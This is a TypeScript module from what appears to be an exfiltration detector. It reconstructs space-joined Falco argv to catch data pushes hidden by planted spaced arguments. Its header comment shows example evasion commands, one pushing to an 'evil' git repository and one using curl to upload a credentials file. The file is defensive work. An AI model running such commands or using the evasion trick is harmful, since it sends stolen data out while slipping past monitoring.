/**
 * Recognition of a table tool whose argv the sensor joined with spaces and did not quote (Falco), when the words
 * are more than its arguments (ProcessView.argvCount): some argument held a space, and the plain reading may be
 * one the attacker planted. `git -c "x=1 commit y" push https://github.com/evil/x.git` arrives as `-c x=1 commit
 * y push https://…`, read as `git commit`; `curl -H "X: --" -d @creds URL` as options ended before `-d`. Every
 * way to group the words back into that many arguments is a reading the process may have had: it is a push when
 * a reading is one (./recognize.ts calls this when the plain reading is none). Those readings are too many to
 * list once two arguments hold spaces, so for a sub-command tool or a flag-shaped uploader they are searched
 * (./argv-groupings.ts): only the groupings that put a push word where the tool's parser reads a sub-command or
 * a flag are read; the other shapes have theirs listed, up to MAX_ARGV_READINGS. A push reading that a likelier
 * benign one outranks (./reading-rank.ts) is an unsure push (PushRecognition.argvOutranked), taken only when no
 * reading is a sure one.
 */
import { basename, type FlagSyntax, parseArgv } from './argv.js';
import { type GroupingSearch, pushGroupings } from './argv-groupings.js';
import { launchedProgram, quoteWords } from './launchers.js';
import { holdsOtherSpacedArgument, keyValueTextReadings } from './reading-rank.js';
import type { ProcessView, PushRecognition, Recognition } from './recognize.js';
import type { PushToolSpec } from './types.js';

/**
 * Readings recognised at most. The readings of w words as n arguments are C(w-1, w-n): a handful for a header
 * (`-H "Authorization: Bearer x"`: 6), past this for a long spaced text (a 20-word `--body`) when listed. Each
 * reading is a recognition (~10 µs for a short one on the correlator's thread): 512 of them made one `git commit
 * -m <30 words>` cost 5 ms.
 */
export const MAX_ARGV_READINGS = 128;

/**
 * Bytes of readings recognised at most: a recognition costs by its length (~35 µs a KiB), so 128 readings of a
 * short command line, or 8 of a 4 KiB one (Falco's capture), ~1 ms either way.
 */
export const MAX_ARGV_READING_BYTES = 32 * 1024;

export function otherReadingPush(
  view: ProcessView,
  specs: readonly PushToolSpec[],
  recognize: (view: ProcessView) => Recognition,
): PushRecognition | null {
  const count = view.argvCount;
  if (count === undefined || count < 1 || !view.args) return null;
  const { named, launched } = tableSpecsOf(view, specs);
  if (named.length === 0) return null;
  const words = view.args.split(' ');
  if (words.length < count) return null;
  // A reading met twice (two push words, or the listing's one-argument readings met again) is not tried again.
  const tried = new Set<string>();
  let bytes = 0;
  const tryReading = (reading: string[]): PushRecognition | null | 'cap' => {
    const args = quoteWords(reading);
    if (tried.has(args)) return null;
    // Past the cap the readings not tried stand unread (docs/detection.md).
    bytes += args.length;
    if (tried.size >= MAX_ARGV_READINGS || (tried.size > 0 && bytes > MAX_ARGV_READING_BYTES)) return 'cap';
    tried.add(args);
    const r = recognize({ ...view, args, argvCount: undefined });
    // A remote holding a space is text glued after a push word (`--description "… helm push chart.tgz
    // oci://ghcr.io/acme/charts to finish"`): no URL, image reference or repository holds one.
    return r?.kind === 'push' && !/\s/.test(r.remote ?? '') ? r : null;
  };
  // A rival reading's recognition, once each (./reading-rank.ts), within the same budget.
  const rivals = new Map<string, boolean>();
  const rivalIsPush = (rival: string[]): boolean | 'cap' => {
    const args = quoteWords(rival);
    const known = rivals.get(args);
    if (known !== undefined) return known;
    bytes += args.length;
    if (bytes > MAX_ARGV_READING_BYTES) return 'cap';
    const push = recognize({ ...view, args, argvCount: undefined })?.kind === 'push';
    rivals.set(args, push);
    return push;
  };
  const searches = launched ? [] : named.map((spec) => groupingSearchOf(spec, words, count));
  const listed = searches.length === 0 || searches.includes(null);
  const commands = new Set(named.flatMap((spec) => spec.commonCommands ?? []));
  // A push reading a likelier benign one outranks is kept, unsure, for when no reading is a sure push: a push padded
  // to mirror the benign shape would otherwise be no push at all (./reading-rank.ts).
  let outranked: PushRecognition | null = null;
  const unsure = (): PushRecognition | null => (outranked === null ? null : { ...outranked, argvOutranked: true });
  for (const readings of [
    ...searches
      .filter((s) => s !== null)
      .map((search) => searchedReadings(search, keyValueTextReadings(words, count, search.syntax, commands))),
    ...(listed ? [listedReadings(named, words, count)] : []),
  ]) {
    for (const { reading, rival } of readings) {
      const r = tryReading(reading);
      if (r === 'cap') return unsure();
      if (r === null) continue;
      // A likelier reading that is no push wins: the push one is sure only while it is the likelier.
      const rivalPush = rival === null ? true : rivalIsPush(rival);
      if (rivalPush === 'cap') return unsure();
      if (rivalPush) return r;
      outranked ??= r;
    }
  }
  return unsure();
}

/** A reading to recognise, and the likelier one that beats it unless it is a push too (./reading-rank.ts). */
interface Reading {
  reading: string[];
  rival: string[] | null;
}

/**
 * A push read plainly from words that outnumber its arguments, checked against the groupings the process may have
 * had (the plain reading is none of them): the first grouping that is a push, or null when no grouping is one.
 * The plain push stands when they are too many to list (over MAX_ARGV_READINGS, or MAX_ARGV_READING_BYTES of
 * text), when the binary is no table tool (recognised by other shapes), and for a cut argv, whose words are not
 * all there to group (./cut-argv.ts). Found by review: `mvn -Dmsg="run deploy later" verify` read plainly as the
 * goals `deploy later verify`.
 */
export function plainPushHeld(
  plain: PushRecognition,
  view: ProcessView,
  specs: readonly PushToolSpec[],
  recognize: (view: ProcessView) => Recognition,
): PushRecognition | null {
  const count = view.argvCount;
  if (count === undefined || count < 1 || !view.args || view.argvTruncated === true) return plain;
  if (tableSpecsOf(view, specs).named.length === 0) return plain;
  const words = view.args.split(' ');
  // As many words as arguments: the plain reading is the only grouping, and the process's own argv.
  if (words.length <= count) return plain;
  // C(words − 1, joins), stopped past the cap.
  let groupings = 1;
  for (let i = 1; i <= words.length - count && groupings <= MAX_ARGV_READINGS; i++)
    groupings = (groupings * (count - 1 + i)) / i;
  if (groupings > MAX_ARGV_READINGS || groupings * view.args.length > MAX_ARGV_READING_BYTES) return plain;
  // A grouping whose remote holds a space is a push too (`aws s3 cp a "s3://b/x y"`), kept as read plainly.
  let spacedRemote = false;
  for (const reading of allReadingsOf(words, count)) {
    const r = recognize({ ...view, args: quoteWords(reading), argvCount: undefined });
    if (r?.kind !== 'push') continue;
    if (!/\s/.test(r.remote ?? '')) return r;
    spacedRemote = true;
  }
  return spacedRemote ? plain : null;
}

/**
 * Suffix readings tried per grouping the search rebuilt: the words after the push word hold the joins its
 * words before could not (a spaced `--description` after `push`), listed with one argument holding them first.
 */
const READINGS_AFTER_PUSH_WORD = 4;

/**
 * How a sub-command tool or a flag-shaped uploader is searched (./argv-groupings.ts); null for the other
 * shapes (httpie's data items, a URL-commit's actions, transport helpers), whose groupings are listed.
 */
function groupingSearchOf(spec: PushToolSpec, words: readonly string[], count: number): GroupingSearch | null {
  const m = spec.match;
  if (m.kind === 'subcommand') {
    const firsts = pushFirstWords(spec);
    if (firsts === null) return null;
    return { words, count, syntax: spec.syntax, subcommand: true, isPushStart: (w) => firsts.has(w) };
  }
  if (m.kind === 'upload' && m.methodWords === undefined) {
    const flags = new Set(m.uploadFlags.flatMap((f) => f.flags));
    const isPushStart = (w: string) =>
      w.length > 1 && w[0] === '-' && parseArgv([w], spec.syntax).flags.some((f) => flags.has(f.flag));
    return { words, count, syntax: spec.syntax, subcommand: false, isPushStart };
  }
  return null;
}

function* searchedReadings(search: GroupingSearch, textReading: (at: number) => string[] | null): Generator<Reading> {
  for (const g of pushGroupings(search)) {
    const head = [...g.before, search.words[g.at]!];
    // A sub-command tool's: its `key=value` value holding the push word is the text of a command line.
    const rival = search.subcommand && holdsOtherSpacedArgument(g.before) ? textReading(g.at) : null;
    if (g.after.length === 0) {
      yield { reading: head, rival };
      continue;
    }
    let n = 0;
    for (const tail of readingsOf(g.after, g.afterCount)) {
      if (++n > READINGS_AFTER_PUSH_WORD) break;
      // After the push word a spaced argument is a flag's value, never a positional: a positional there is the
      // rest of a text that mentions a push (`--notes "… publish the chart; …"` read as `publish the`).
      if (g.after.length > g.afterCount && spaceOutsideValues(tail, search.syntax)) continue;
      yield { reading: [...head, ...tail], rival };
    }
  }
}

/**
 * A positional holds a space, or a long flag's name does: no parser but npm's nopt takes `--x y` for a flag
 * (./argv-groupings.ts spacedClassOf), so such a tail hides the flag itself (`cargo publish --dry-run --config
 * "net.git-fetch-with-cli = true"` would read as `publish "--dry-run --config …" = true`, a push).
 */
function spaceOutsideValues(args: readonly string[], syntax: FlagSyntax): boolean {
  const parsed = parseArgv(args, syntax);
  if (parsed.positionals.some((p) => p.includes(' '))) return true;
  return syntax.boolWords !== true && parsed.flags.some((f) => f.flag.startsWith('--') && f.flag.includes(' '));
}

/** Every grouping, when some word could start a push (the shapes the search does not model). */
function* listedReadings(named: readonly PushToolSpec[], words: readonly string[], count: number): Generator<Reading> {
  if (someReadingCanPush(named, words)) for (const reading of readingsOf(words, count)) yield { reading, rival: null };
}

/**
 * The table's entries for the binary by name, or for the program it launches (`node …/npm`, `busybox wget`):
 * then the words start with the launcher's own, which the search does not parse (`launched`).
 */
function tableSpecsOf(view: ProcessView, specs: readonly PushToolSpec[]): { named: PushToolSpec[]; launched: boolean } {
  const named = (name: string) =>
    specs.filter((s) =>
      s.binaries.some((b) => b !== '*' && (b.endsWith('*') ? name.startsWith(b.slice(0, -1)) : b === name)),
    );
  const own = named(basename(view.binary));
  if (own.length > 0) return { named: own, launched: false };
  const program = launchedProgram(view);
  return { named: program !== null ? named(basename(program.binary)) : [], launched: true };
}

/**
 * A sub-command tool's push starts with one of its push commands' first words (`push`, `lfs`, `send-pack`):
 * when no word is one, no grouping of the words is a push, and the readings are not tried (a `git commit -m`
 * with a long spaced message, the common case, costs one pass over its words).
 */
function someReadingCanPush(named: readonly PushToolSpec[], words: readonly string[]): boolean {
  const firsts = new Set<string>();
  for (const spec of named) {
    const own = pushFirstWords(spec);
    if (own === null) return true;
    for (const w of own) firsts.add(w);
  }
  return words.some((w) => firsts.has(w));
}

/**
 * The words a sub-command tool's pushes start with (`push`, `lfs`, `send-pack`); null when any word may start
 * one (not a sub-command tool, or a push command starting with a wildcard), so no word rules a push out.
 */
export function pushFirstWords(spec: PushToolSpec): ReadonlySet<string> | null {
  if (spec.match.kind !== 'subcommand') return null;
  const firsts = new Set<string>();
  for (const cmd of spec.match.commands) {
    const first = cmd.words[0];
    if (first === undefined || first === '*') return null;
    firsts.add(first);
  }
  return firsts;
}

/**
 * The ways to group `words` into `count` arguments, adjacent words joined by the single space the sensor put
 * between them: first those where one argument held every space (the usual evasion: one planted value), then
 * each choice of which `words.length - count` of the gaps were inside an argument.
 */
export function* readingsOf(words: readonly string[], count: number): Generator<string[]> {
  const joins = words.length - count;
  if (joins > 1)
    for (let at = 0; at < count; at++)
      yield [...words.slice(0, at), words.slice(at, at + joins + 1).join(' '), ...words.slice(at + joins + 1)];
  yield* allReadingsOf(words, count);
}

function* allReadingsOf(words: readonly string[], count: number): Generator<string[]> {
  // No words (a view with no args at all): one reading, empty; `words[0]` below would be a word of undefined.
  if (words.length === 0) {
    yield [];
    return;
  }
  const joins = words.length - count;
  const gaps = words.length - 1;
  const at = Array.from({ length: joins }, (_, i) => i);
  while (true) {
    const joined = new Set(at);
    const reading: string[] = [words[0]!];
    for (let g = 0; g < gaps; g++) {
      if (joined.has(g)) reading[reading.length - 1] += ` ${words[g + 1]}`;
      else reading.push(words[g + 1]!);
    }
    yield reading;
    // The next choice of gaps, in lexicographic order.
    let i = joins - 1;
    while (i >= 0 && at[i] === gaps - joins + i) i--;
    if (i < 0) return;
    at[i]!++;
    for (let j = i + 1; j < joins; j++) at[j] = at[j - 1]! + 1;
  }
}

/**
 * Among an argv's groupings a reading that only reports back (PushRecognition.reportsOnly) is none, as it was
 * before such a call became a push past its container's bound: it stands only as the plain reading.
 */
export const notReport = (r: Recognition): Recognition => (r?.kind === 'push' && r.reportsOnly === true ? null : r);
